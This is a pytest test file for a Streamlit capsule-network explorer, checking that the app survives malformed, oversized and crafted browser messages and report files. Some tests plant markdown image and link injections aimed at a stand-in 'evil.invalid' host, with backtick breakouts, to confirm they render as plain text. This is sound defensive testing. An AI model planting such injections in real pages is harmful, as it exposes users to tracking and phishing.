    killed_after_replacing("robustness.md", *tiny_robustness, "--sweep-limit", 2, "--out-dir", out)  # all models
    assert (out / "robustness.json").read_text() == "old robustness.json"
    clean_stale(out)  # what every write command into the folder does first
    report = json.loads((out / "robustness.json").read_text())
    assert report["date"] in (out / "robustness.md").read_text()
    assert (out / "sweeps.png").read_bytes().startswith(b"\x89PNG")
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


# --- Components' messages: whatever a page sends, the page shows no exception box ----------------------------
# A page's reports are sent as a browser sends them (tests/page_messages.py), so the app's callbacks run.


@pytest.fixture
def app_env(monkeypatch, tmp_path, synthetic_root):
    monkeypatch.setenv("CAPSVIZ_DATA", str(synthetic_root))
    monkeypatch.setenv("CAPSVIZ_RUNS", str(tmp_path / "runs"))
    return tmp_path


def app_test():
    from streamlit.testing.v1 import AppTest

    app = AppTest.from_file(str(REPO / "app.py"), default_timeout=120).run()
    assert not app.exception, app.exception
    return app


def canvas_report(image: Image.Image, objects: list | None = None, load: int = 0) -> dict:
    """What the canvas page reports at a stroke's end: the PNG as a data URL, its strokes, the last load it applied."""
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    data = "data:image/png;base64," + base64.b64encode(buffer.getvalue()).decode()
    return {"drawing": {"raw": {"objects": objects or []}, "data": data, "load": load}}


def drawn(app, digit: int = 3):
    from page_messages import sends

    from capsviz.ui import state

    sends(app, state.CANVAS, canvas_report(draw_digit(digit)))
    assert not app.exception and app.metric, app.exception
    return app


@NEEDS_APP
def test_a_live_decoder_report_that_is_not_16_numbers_is_ignored(app_env):
    from page_messages import sends

    from capsviz.ui import state

    app = drawn(app_test())
    sliders = [state.POSE_DIM.format(d) for d in range(16)]
    junk = ["x" * 16, [None] * 16, [[0.1, 0.2]] * 16, {str(d): 0.1 for d in range(16)}, 5, [10**400] * 16]
    junk += [[float("nan")] * 16, [float("inf")] * 16, [True] * 16, [0.1] * 15, None, "deltas"]
    for deltas in junk:
        sends(app, state.LIVE_DECODER, {"deltas": deltas})
        assert not app.exception, (deltas, app.exception)
        assert [app.session_state[key] for key in sliders] == [0.0] * 16, deltas
    sends(app, state.LIVE_DECODER, {"deltas": [0.0] * 5 + [0.2] + [0.0] * 10})  # the session still reads a real one
    assert app.session_state[sliders[5]] == pytest.approx(0.2)


@NEEDS_APP
def test_a_report_that_is_not_json_is_dropped_and_the_session_goes_on(app_env):
    from page_messages import sends_text

    from capsviz.ui import state

    app = drawn(app_test())
    shown = app.metric[0].value
    not_json = ["{bad", "[" * 100_000, "1" * 5_000, ""]
    for key in (state.CANVAS, state.ROUTING_OVERLAY, state.ROUTING_TICKER):
        for text in not_json:
            sends_text(app, key, text)
            assert not app.exception, (key, text[:10], app.exception)
            app.run()  # Streamlit keeps what a page sent: a later rerun must read it too
            assert not app.exception and app.metric[0].value == shown, (key, text[:10], app.exception)
    drawn(app, 7)  # a real drawing is still read
    assert app.metric[0].value == "7"


@NEEDS_APP
def test_a_report_for_a_widget_not_yet_drawn_or_of_another_kind_is_dropped_and_the_session_goes_on(app_env):
    from app_pages import open_tab
    from page_messages import sends_widgets, widget_ids

    from capsviz.ui import state

    elsewhere = open_tab(app_test(), "Claims lab")  # another session names the lab's widgets
    lab_ids = widget_ids(elsewhere)
    app = drawn(app_test())
    shown = app.metric[0].value
    app.session_state[state.TABS] = "Claims lab"  # its sliders are first drawn in the run that reads this
    sends_widgets(app, {state.LAB_PARAM.format("rotation"): ("string_value", "x")}, ids=lab_ids)
    assert not app.exception, app.exception
    for crafted in ({state.INPUT_SOURCE: ("bool_value", True)}, {state.ROUTING_DIGIT: ("int_value", 3)},
                    {state.GUIDE_STAGE: ("double_array_value", [float("nan")])},
                    {state.ROUTING_ITERS: ("string_value", "x")}):  # fmt: skip
        app.run()
        assert not app.exception, (crafted, app.exception)
        open_tab(app, "Explore")
        sends_widgets(app, crafted)
        assert not app.exception, (crafted, app.exception)
        app.run()  # Streamlit keeps what a page sent: a later rerun must read it too
        assert not app.exception and app.metric[0].value == shown, (crafted, app.exception)
    assert app.session_state[state.ROUTING_ITERS] == 3 and app.session_state[state.INPUT_SOURCE] == "Draw"


@NEEDS_APP
def test_a_fresh_servers_first_message_that_is_not_json_leaves_its_session_working(tmp_path, synthetic_root):
    """The guard is installed by the first run's import of the app: the first message of the first session
    arrives before it, and must not break that session."""
    pytest.importorskip("websockets.sync.client")
    from page_messages import Session, serve, widget_ids

    from capsviz.ui import state

    canvas = widget_ids(app_test())[state.CANVAS]  # the same id on any server
    env = {"CAPSVIZ_DATA": str(synthetic_root), "CAPSVIZ_RUNS": str(tmp_path / "runs")}
    with serve(env, tmp_path / "server.log") as address, Session(address) as page:
        first = page.run(raw={canvas: "{bad"})
        later = page.run()
        drawing = page.run({state.CANVAS: canvas_report(draw_digit(3))})
    for shown in (first, later, drawing):
        assert "exception" not in [kind for kind, _ in shown], (tmp_path / "server.log").read_text()[-3000:]
    assert "metric" in [kind for kind, _ in drawing]


@NEEDS_APP
def test_a_choice_the_page_does_not_offer_is_never_kept_even_with_a_tab_switch_in_the_same_message(app_env):
    from app_pages import open_tab
    from page_messages import sends_widgets

    from capsviz.ui import state

    def after_switch(app, tab: str, values: dict) -> None:
        app.session_state[state.TABS] = tab  # the switch and the crafted value arrive together
        sends_widgets(app, values)
        assert not app.exception, (values, app.exception)
        app.run()  # and every later run still works
        assert not app.exception, (values, app.exception)

    app = drawn(app_test())
    after_switch(app, "Claims lab", {state.ROUTING_DIGIT: ("string_value", "Bogus")})
    after_switch(app, "Explore", {state.LAB_DIGIT: ("string_value", "Bogus")})
    after_switch(app, "Claims lab", {state.POSE_CLASS: ("string_value", "Bogus")})
    open_tab(app, "Explore")
    assert app.metric[0].value == "3"
    open_tab(app, "Two digits")
    after_switch(app, "Explore", {state.TWO_SOURCE: ("string_value", "Bogus")})
    assert app.metric[0].value == "3"


@NEEDS_APP
def test_presentation_steps_from_a_section_the_page_does_not_offer_and_an_unknown_tab(app_env):
    from page_messages import sends_widgets

    from capsviz.ui import present, state

    app = drawn(app_test())
    app.session_state[state.PRESENT] = True
    app.run()
    assert not app.exception, app.exception
    sends_widgets(app, {state.PRESENT_SECTION: ("string_array_value", []), state.PRESENT_NEXT: ("trigger_value", True)})
    assert not app.exception, app.exception
    assert app.session_state[state.PRESENT_SECTION] == present.SECTIONS[1]  # Next from the section kept
    app.session_state[state.TABS] = "Bogus"
    app.run()
    assert not app.exception, app.exception
    assert "tab" not in app.query_params


@NEEDS_APP
def test_a_canvas_report_that_is_not_a_drawing_is_ignored_with_a_warning_and_later_runs_work(app_env):
    from page_messages import sends

    from capsviz.ui import state

    app = drawn(app_test())
    shown = app.metric[0].value
    png = canvas_report(draw_digit(7))["drawing"]
    junk = [
        canvas_report(draw_digit(7).convert("LA"))["drawing"],  # grey + alpha: (280, 280, 2) once decoded
        "x",
        5,
        {**png, "raw": "x"},
        {**png, "raw": {"objects": "x"}},
        {**png, "raw": {"objects": [5]}},
        {**png, "raw": {"objects": [{"path": [["Z", 1, 2]]}]}},
        {**png, "raw": {"objects": [{"path": [["L", 10**400, 2]]}]}},
    ]
    for drawing in junk:
        sends(app, state.CANVAS, {"drawing": drawing})
        assert not app.exception, (str(drawing)[:80], app.exception)
        assert any("not a drawing" in w.value for w in app.warning), str(drawing)[:80]
        assert app.metric and app.metric[0].value == shown  # the last drawing stays
        app.run()  # and the next run, without a new report, works too
        assert not app.exception and app.metric[0].value == shown


@NEEDS_APP
def test_the_canvas_keeps_a_bounded_drawing_whatever_size_the_page_sends(app_env):
    from page_messages import sends

    from capsviz.ui import state
    from capsviz.ui.canvas import MAX_POINTS

    strokes = [{"type": "path", "t": t, "path": [["L", 140.5, 140.5]] * 1_000} for t in range(50)]  # 50,000 points
    strokes[-1]["more"] = "A" * 1_000_000  # a field the canvas does not draw; all of it under the server's 4 MB
    app = app_test()
    sends(app, state.CANVAS, canvas_report(draw_digit(3), strokes))
    assert not app.exception and app.metric
    memory = app.session_state[state.CANVAS_MEMORY]
    assert sum(len(stroke["path"]) for stroke in memory["objects"]) <= MAX_POINTS
    assert [stroke["t"] for stroke in memory["objects"]] == list(range(30, 50))  # the newest, for Undo
    assert len(json.dumps(memory["objects"])) < 40 * MAX_POINTS
    assert len(json.dumps(app.session_state[state.CANVAS])) < 1_000  # the page's own copy is not kept
    app.button(key=state.CANVAS_UNDO).click().run()
    assert not app.exception and [s["t"] for s in memory["load"]["objects"]] == list(range(30, 49))


@NEEDS_APP
def test_an_overlay_selection_the_chart_did_not_make_is_ignored(app_env):
    from page_messages import sends

    from capsviz.ui import state

    app = drawn(app_test())
    inspected = app.session_state[state.INSPECT_CAPSULE]
    junk = [["a", "b", 0.1], {"x": 1, "y": 2, "z": 3}, {"0": "a", "1": "b", "2": 0.1}, [10**400, 0, 0.1]]
    junk += [[2.5, 0, 0.1], [-1, 0, 0.1], [0, 6, 0.1], "abc", None, {str(k): 0 for k in range(1000)}]
    for points in [[{"customdata": custom}] for custom in junk] + ["abc", [5], None]:
        selection = {"selection": {"points": points, "point_indices": [0], "box": [], "lasso": []}}
        sends(app, state.ROUTING_OVERLAY, selection)
        assert not app.exception, (points, app.exception)
        assert app.session_state[state.INSPECT_CAPSULE] == inspected, points
    click = {"selection": {"points": [{"customdata": {"0": 0, "1": 0, "2": 0.1}}], "point_indices": [0], "box": []}}
    sends(app, state.ROUTING_OVERLAY, click | {"lasso": []})  # a real click: the browser sends arrays as objects
    assert app.session_state[state.INSPECT_CAPSULE] == (inspected or 0) // 36 * 36  # row 0, col 0, the same type


@NEEDS_APP
def test_a_tiles_click_of_a_number_no_float_holds_is_ignored():
    from capsviz.ui.tiles import picked

    assert picked({"picked": 10**400}) is None and picked({"picked": -(10**400)}) is None


# --- Reports: the routing and robustness reports are checked once, where they are read ------------------------


CRAFTED_ROUTING = [
    {"accuracy": []},
    {"accuracy": {"1": "high"}},
    {"errors": None},
    {"test_images": "all"},
    {"accuracy": {"1": 10**400}},
    {"accuracy": {"7": 0.5}, "errors": {"7": 20}},
    {"errors": {str(r): -1 for r in range(1, 6)}},
    {"trained_routing_iters": [3]},
    {"command": 5},
]


@pytest.mark.parametrize("changes", CRAFTED_ROUTING, ids=[str(c)[:40] for c in CRAFTED_ROUTING])
def test_a_crafted_routing_report_is_refused_where_it_is_read(tmp_path, changes):
    from capsviz.analysis import routing_accuracy

    checkpoint = save_checkpoint(tmp_path / "m.safetensors", CapsNet(TINY_CAPSNET))
    routing_accuracy.results_path(checkpoint).write_text(json.dumps(routing_report(checkpoint, **changes)))
    with pytest.raises(ValueError, match="is not what routing-accuracy writes"):
        routing_accuracy.load_for(checkpoint)


def run_with_report(app_env) -> tuple[Path, str]:
    """A run the explorer can show, (its checkpoint, its option in the sidebar)."""
    run = app_env / "runs" / "20260101-000000-abcdef" / "last.safetensors"
    torch.manual_seed(0)
    save_checkpoint(run, CapsNet(CapsNetConfig()), {"test_accuracy": 0.5, "epochs": 1, "train_images": 96})
    return run, "run: 20260101-000000-abcdef"


def what_routing_adds(app, option: str):
    from capsviz.ui import state
    from capsviz.ui.routing import ADDS

    app.selectbox(key=state.CHECKPOINT_CHOICE).set_value(option).run()
    drawn(app).radio(key=state.ROUTING_VIEW).set_value(ADDS).run()
    assert not app.exception, app.exception
    return app


@NEEDS_APP
def test_a_crafted_routing_report_shows_as_unreadable_and_its_strings_as_typed(app_env):
    from capsviz.analysis import routing_accuracy
    from capsviz.ui.text import plain

    run, option = run_with_report(app_env)
    report = routing_accuracy.results_path(run)
    report.write_text(json.dumps(routing_report(run, **CRAFTED_ROUTING[0])))
    app = what_routing_adds(app_test(), option)
    for changes in CRAFTED_ROUTING:
        report.write_text(json.dumps(routing_report(run, **changes)))
        app.run()
        assert not app.exception, (changes, app.exception)
        assert any("routing report could not be read" in w.value for w in app.warning), changes
    command = "python -m capsviz routing-accuracy `` ![x](http://evil.invalid/x.png) `` [link](http://evil.invalid)"
    report.write_text(json.dumps(routing_report(run, command=command)))
    app.run()
    caption = next(c.value for c in app.caption if "MNIST test images, measured" in c.value)
    assert plain(command, 600) in caption and "](" not in caption.replace("\\]\\(", "")


@NEEDS_APP
def test_a_routing_report_written_while_the_app_runs_shows_without_a_restart(app_env):
    from capsviz.analysis import routing_accuracy

    run, option = run_with_report(app_env)
    app = what_routing_adds(app_test(), option)
    assert any("Not measured for this checkpoint" in i.value for i in app.info)
    routing_accuracy.write(routing_report(run), routing_accuracy.results_path(run))  # the command the box suggests
    app.run()
    assert not any("Not measured" in i.value for i in app.info)
    (table,) = [d for d in app.dataframe if "routing iterations" in d.value.columns]
    assert list(table.value["test accuracy"]) == ["10.00%", "20.00%", "30.00%", "40.00%", "50.00%"]


def robustness_report(models: list, **fields) -> dict:
    report = {"format": "capsviz-robustness", "date": "2026-01-01", "hardware": "cpu", "command": "x"}
    return {**report, "test_images": 10_000, "seed": 0, **fields, "models": models}


def test_a_robustness_report_keeps_only_fields_of_their_type_and_matches_no_weights_by_a_bad_one(tmp_path):
    from capsviz.analysis import lab

    weights = tmp_path / "runs" / "x" / "last.safetensors"
    weights.parent.mkdir(parents=True)
    weights.write_bytes(b"weights")
    crafted = {"name": 5, "kind": "cnn", "mnist": float("nan"), "affine": 10**400, "params": True}
    crafted |= {"checkpoint": str(weights), "sha256": 5, "by_routing": {"1": {"affine": "high", "mnist": 0.5}}}
    path = tmp_path / "robustness.json"
    path.write_text(json.dumps(robustness_report([crafted, {"name": "nul", "checkpoint": "runs/x\0y"}])))
    result, why = lab.load_robustness(path)
    assert why is None
    kept = {"kind": "cnn", "checkpoint": str(weights), "sha256": "", "by_routing": {"1": {"mnist": 0.5}}}
    assert result["models"][0] == kept
    assert result["models"][1] == {"name": "nul"}
    entries, missing = lab.rows_in_use(result, [weights])  # a sha256 that is not one matches no weights
    assert missing == [weights] and entries == result["models"]


def test_a_robustness_report_of_a_million_entries_is_refused_once_and_cached_by_content(tmp_path, monkeypatch):
    from capsviz.analysis import lab

    path = tmp_path / "robustness.json"
    path.write_text(json.dumps(robustness_report([{}] * 1_300_000), separators=(",", ":")))
    assert path.stat().st_size < lab.MAX_ROBUSTNESS_BYTES  # within the byte cap
    result, why = lab.load_robustness(path)
    assert result is None and "1,300,000 models" in why and f"at most {lab.MAX_MODELS}" in why
    many = robustness_report([{"by_routing": {str(r): {} for r in range(100)}}])
    path.write_text(json.dumps(many))
    assert "100 routing readouts" in lab.load_robustness(path)[1]
    checked = []
    monkeypatch.setattr(lab, "_checked", lambda data: checked.append(data) or (None, "refused"))
    again = tmp_path / "copy.json"
    again.write_bytes(path.read_bytes())
    assert lab.load_robustness(again)[1].endswith("(100 routing readouts for one model; at most 8)")
    assert checked == []  # the same bytes under another name: not checked again


@NEEDS_APP
def test_a_crafted_robustness_report_shows_question_marks_and_plain_text_in_the_lab(app_env, monkeypatch):
    from capsviz.ui import state

    link = "[link](http://evil.invalid)"
    entry = {"name": link, "kind": "capsnet", "params": 1, "routing_iters": 3, "mnist": 0.99, "affine": 10**400}
    entry["checkpoint"] = "pretrained/capsnet_mnist.safetensors"
    nul = {"name": "nul", "kind": "cnn", "checkpoint": "runs/x\0y/last.safetensors", "mnist": 0.5, "affine": 0.5}
    path = app_env / "robustness.json"
    hardware = "![hw](http://evil.invalid/h.png)"
    path.write_text(json.dumps(robustness_report([entry, nul], hardware=hardware, command=link)))
    monkeypatch.setenv("CAPSVIZ_ROBUSTNESS", str(path))
    app = app_test()
    app.session_state[state.TABS] = "Claims lab"
    app.run()
    assert not app.exception, app.exception
    table = app.table[0].value
    assert list(table["affNIST-like"]) == ["?"] and list(table["MNIST test"]) == ["99.00%"]  # 10^400 is no accuracy
    shown = " ".join([*table["model"], *(c.value for c in app.caption), *(m.value for m in app.markdown)])
    assert "](" not in shown.replace("\\]\\(", "") and "evil" in shown


# --- Links and shown strings: a link is read like any input; strings capsviz did not write show as typed ------


@NEEDS_APP
def test_a_blank_image_in_a_link_says_draw_a_digit_like_a_blank_canvas(app_env):
    from streamlit.testing.v1 import AppTest

    app = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    app.query_params.update({"src": "image", "img": base64.urlsafe_b64encode(bytes(784)).decode().rstrip("=")})
    app.run()
    assert not app.exception and not app.metric  # not classified
    assert any("draw a digit" in info.value for info in app.info)


@NEEDS_APP
def test_names_and_messages_from_files_show_as_typed_not_as_markdown(app_env):
    from capsviz.ui import state
    from capsviz.ui.inputs import UPLOAD
    from capsviz.ui.sidebar import UPLOAD as UPLOAD_CHECKPOINT
    from capsviz.ui.text import plain

    image = "![x](http:evil.invalid) `"  # a remote image, and a backtick to break out of a code span
    run = app_env / "runs" / image / "last.safetensors"  # a folder name may hold any character but "/"
    run.parent.mkdir(parents=True)
    run.write_bytes(b"not a checkpoint")
    app = app_test()
    app.selectbox(key=state.CHECKPOINT_CHOICE).set_value(f"run: {image}").run()
    (error,) = [e.value for e in app.sidebar.error if "That run's checkpoint cannot be used" in e.value]
    assert plain(image) in error and image not in error
    header = crafted(TINY_CAPSNET.to_dict(), TINY_SHAPES, kind=image)
    app.selectbox(key=state.CHECKPOINT_CHOICE).set_value(UPLOAD_CHECKPOINT).run()
    upload = ("m.safetensors", header + bytes(declared_size(header) - len(header)), "application/octet-stream")
    app.file_uploader(key=state.CHECKPOINT_UPLOAD).set_value(upload).run()
    (error,) = [e.value for e in app.sidebar.error if e.value.startswith("Rejected")]
    assert plain(image) in error and image not in error  # the header's kind, as typed
    app.radio(key=state.INPUT_SOURCE).set_value(UPLOAD).run()
    app.file_uploader(key=state.UPLOAD).set_value((f"{image}.png", b"not an image", "image/png")).run()
    (error,) = [e.value for e in app.error if e.value.startswith("Could not read")]
    assert plain(image) in error and image not in error
    assert not app.exception


def test_plain_shows_any_string_as_typed():
    from capsviz.ui.text import plain  # capsviz.ui.text needs no streamlit

    assert plain("a`b` [c](http://d.e) &copy; :red[x] $x$ <b>") == (
        r"a\`b\` \[c\]\(http\://d\.e\) \&copy; \:red\[x\] \$x\$ \<b\>"
    )
    assert plain("one\ntwo\0three\u2028four") == "one two three four"


# --- Images: what is shown of an upload is the picture the model reads ------------------------------------------


@NEEDS_APP
def test_a_16_bit_scan_upload_preview_shows_its_ink_not_a_white_square():
    from capsviz.ui.inputs import _decode_upload

    drawing = np.asarray(draw_digit(3).convert("L"), dtype=np.float64) / 255  # ink 1, background 0
    scan = (40_000 - drawing * 39_000).astype(np.uint16)  # a 16-bit scan: background 40000, ink 1000
    buffer = io.BytesIO()
    Image.fromarray(scan).save(buffer, format="PNG")

    class Upload:
        name, size = "scan.png", len(buffer.getvalue())

        def getvalue(self) -> bytes:
            return buffer.getvalue()

    decoded = _decode_upload(Upload())
    assert decoded.problem is None and decoded.ink is not None
    pixels = np.asarray(Image.fromarray(decoded.preview).convert("L"))
    assert pixels.min() < 20 and 140 < np.median(pixels) < 170  # dark ink on 40000/65535 grey, as scanned


# --- Sessions: many browsers at once on a fresh server ----------------------------------------------------------

SESSIONS = 8


@NEEDS_APP
def test_sessions_that_open_links_at_once_on_a_fresh_server_all_get_their_prediction(tmp_path, synthetic_root):
    """Right after the server starts, pages open links to MNIST images all at once, so every first run
    classifies and draws charts: none may crash (Plotly read pandas half-imported by another session's
    thread: 7 to 9 of 10 such sessions crashed without the app's early import)."""
    pytest.importorskip("websockets.sync.client")
    import threading
    from concurrent.futures import ThreadPoolExecutor
    from contextlib import ExitStack

    from page_messages import Session, serve

    env = {"CAPSVIZ_DATA": str(synthetic_root), "CAPSVIZ_RUNS": str(tmp_path / "runs"), "CAPSVIZ_VALIDATE_FIGURES": ""}
    together = threading.Barrier(SESSIONS)

    def open_link(session: Session, k: int) -> list:
        together.wait(timeout=600)
        return session.run(query=f"src=mnist&i={k}")

    log = tmp_path / "server.log"
    with serve(env, log) as address, ThreadPoolExecutor(SESSIONS) as pool, ExitStack() as stack:
        sessions = [stack.enter_context(Session(address)) for _ in range(SESSIONS)]
        shown = list(pool.map(open_link, sessions, range(SESSIONS)))
    for k, elements in enumerate(shown):
        kinds = [kind for kind, _ in elements]
        assert "exception" not in kinds and "metric" in kinds, (k, kinds, log.read_text()[-3000:])


@NEEDS_APP
def test_a_page_reporting_more_than_the_servers_limit_loses_only_its_own_connection(tmp_path, synthetic_root):
    pytest.importorskip("websockets.sync.client")
    from page_messages import Session, serve
    from websockets.exceptions import ConnectionClosed

    from capsviz.ui import state
    from capsviz.ui.server import MAX_PAGE_STATE_MB

    env = {"CAPSVIZ_DATA": str(synthetic_root), "CAPSVIZ_RUNS": str(tmp_path / "runs")}
    strokes = [{"type": "path", "path": [["L", 140.25, 140.25]] * 1_000} for _ in range(300)]
    report = canvas_report(draw_digit(3), strokes)
    assert len(json.dumps(report)) > MAX_PAGE_STATE_MB * 1e6  # under Streamlit's own 25 MB
    with serve(env, tmp_path / "server.log") as address, Session(address) as hog, Session(address) as other:
        hog.run()
        other.run()
        with pytest.raises(ConnectionClosed):
            hog.run({state.CANVAS: report})
        shown = other.run({state.CANVAS: canvas_report(draw_digit(3))})
    assert "exception" not in [kind for kind, _ in shown] and "metric" in [kind for kind, _ in shown]
